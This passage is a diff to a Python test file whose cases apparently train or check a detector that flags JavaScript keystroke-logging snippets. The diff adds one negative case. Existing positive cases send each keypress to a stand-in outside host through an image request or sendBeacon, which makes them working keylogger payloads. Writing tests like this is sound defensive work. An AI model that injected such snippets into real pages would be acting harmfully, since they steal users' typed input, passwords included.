@@ -164,6 +164,7 @@ def test_fields_for_a_card_that_no_one_sees_are_a_trap(style: str) -> None:
         (f"document.addEventListener('keypress',e=>{{(new Image).src='{AWAY}?k='+e.key}})", True),
         (f"onkeydown=e=>{{navigator.sendBeacon('{AWAY}',e.keyCode)}}", True),
         ("document.addEventListener('keyup',e=>{fetch('/search?k='+e.key)})", False),
+        (f"document.addEventListener('keyup',e=>{{warn('see {AWAY}',e.key);fetch('/log')}})", False),
         (f"document.addEventListener('keyup',e=>{{if(e.key=='/')q.focus()}});fetch('{AWAY}')", False),
     ],
 )
